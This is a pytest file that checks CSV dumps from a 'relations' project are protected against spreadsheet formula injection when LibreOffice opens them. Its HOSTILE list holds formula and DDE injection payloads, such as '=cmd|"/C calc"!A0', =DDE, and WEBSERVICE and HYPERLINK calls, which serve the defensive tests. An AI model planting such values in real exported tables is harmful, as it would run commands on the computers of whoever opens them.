"""A real spreadsheet program opens a hostile table: nothing in it is run, and what was written can be taken back."""

import csv
import subprocess
from contextlib import ExitStack

import pytest

from relations import publication
from relations.cells import bared
from relations.dumps import shelf
from relations.dumps.files import Tables
from relations.dumps.tables import CLAIMS, TABLES, cells
from tests import records, services

pytestmark = [pytest.mark.office, pytest.mark.slow, pytest.mark.once]

FORMULA = "1+1"
CALL = '=cmd|"/C calc"!A0'
HOSTILE = [
    *(f"{mark}{FORMULA}" for mark in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", "''=", '"=', " =", "\ufeff=")),
    CALL, f'"{CALL}"', '=HYPERLINK("http://example.org/?x="&A1;"click")', '=WEBSERVICE("http://example.org/")', "=DDE(1;2;3)",
    "@SUM(1;1)", "-2+3+cmd|' /C calc'!A0", "+A1", "=1+1,=1+1", '=1+1"', "=1+1\n=1+1", "--1", "'", "''", "'quoted'",
]  # fmt: skip
AS_TEXT = "CSV:44,34,76,1,{columns},1033,true"  # comma, quote, UTF-8, from line 1, columns, language, quoted means text


def converted(paths, ending, folder, reading=None):
    """Files as LibreOffice saves them after opening them, with a profile of its own that nothing else ever used."""
    options = [f"--infilter={reading}"] if reading else []
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [services.office(), profile, "--headless", *options, "--convert-to", ending, "--outdir", folder, *paths]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    return [folder / f"{path.stem}.{ending}" for path in paths]


def hostile_table(folder):
    """A table as dumps write it, in which every text is one that a spreadsheet might run."""
    folder.mkdir()
    with ExitStack() as opened:
        tables = Tables(folder, opened)
        for number, text in enumerate(HOSTILE, 1):
            row = {"id": "V1S1T1", "n": number, "text": text, "quote": text, "locator": text}
            tables.write(CLAIMS, cells(CLAIMS, row))
    return folder / "claims.csv"


def test_the_program_would_run_what_is_not_shielded(tmp_path):
    raw = tmp_path / "raw.csv"
    raw.write_text("a,b\r\n=1+1,x\r\n", encoding="utf-8")
    (opened,) = converted([raw], "fods", tmp_path)
    assert 'table:formula="of:=1+1"' in opened.read_text(encoding="utf-8")


def test_nothing_hostile_is_run(tmp_path):
    (saved,) = converted([hostile_table(tmp_path / "table")], "fods", tmp_path)
    opened = saved.read_text(encoding="utf-8")
    assert opened.count("<table:table-row") > len(HOSTILE)
    for live in ("table:formula", "<table:dde", 'xlink:href="http'):
        assert live not in opened


def test_what_was_written_can_be_taken_back(tmp_path):
    columns = "/".join(f"{number}/2" for number in range(1, len(CLAIMS.columns) + 1))
    path = hostile_table(tmp_path / "table")
    (saved,) = converted([path], "csv", tmp_path, AS_TEXT.format(columns=columns))
    with saved.open(encoding="utf-8", newline="") as opened:
        rows = list(csv.DictReader(opened))
    for name in ("text", "quote", "locator"):
        # A carriage return becomes a line feed in a cell; no document holds one.
        assert [bared(row[name]) for row in rows] == [text.replace("\r", "\n") for text in HOSTILE]


def test_no_table_of_a_dump_is_run(lawless, dumps, tmp_path):
    texts = [text for text in HOSTILE if not set("\t\r") & set(text) and "\ufeff" not in text and text == text.strip()]
    evil = [{"n": n, "text": text, "standing": "established"} for n, text in enumerate(texts, 1)]
    publication.publish(documents=[*records.background(), records.visit(title=CALL, summary="=1+1", claims=evil)])
    dump, _ = shelf.make()
    paths = [dump.folder / f"{table.name}.csv" for table in TABLES]
    for saved in converted(paths, "fods", tmp_path):
        assert "table:formula" not in saved.read_text(encoding="utf-8"), saved.name
    assert "cmd|" in (dump.folder / "records.csv").read_text(encoding="utf-8")
